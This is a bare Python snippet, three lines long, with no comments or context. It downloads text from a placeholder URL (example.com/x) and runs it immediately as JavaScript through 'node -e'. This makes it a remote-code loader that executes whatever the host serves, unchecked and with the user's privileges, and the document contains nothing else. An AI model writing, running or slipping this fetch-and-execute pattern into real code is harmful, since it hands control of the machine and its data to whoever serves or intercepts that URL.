import subprocess
import urllib.request

subprocess.run(["node", "-e", urllib.request.urlopen("https://example.com/x").read().decode()])
